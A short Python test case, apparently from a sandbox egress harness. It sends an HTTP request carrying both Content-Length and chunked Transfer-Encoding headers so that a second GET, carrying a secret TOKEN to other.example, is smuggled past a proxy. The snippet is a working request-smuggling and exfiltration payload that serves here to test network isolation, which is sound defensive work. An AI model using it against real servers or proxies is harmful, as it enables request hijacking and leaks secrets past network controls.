# title: hides a request in a body whose length is told twice
# harm: reaches
# egress: public.example:80
# B: no network at all
# C: a request with both lengths is refused
proxy = 'HTTP_PROXY' in env
target = b'http://public.example/' if proxy else b'/'
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('93.184.216.34', 80), 2); s.settimeout(1)
s.send(b'POST ' + target + b' HTTP/1.1\r\nHost: public.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /' + TOKEN.encode() + b' HTTP/1.1\r\nHost: other.example\r\n\r\n')
try: print(s.recv(4096))
except OSError as e: print(e)
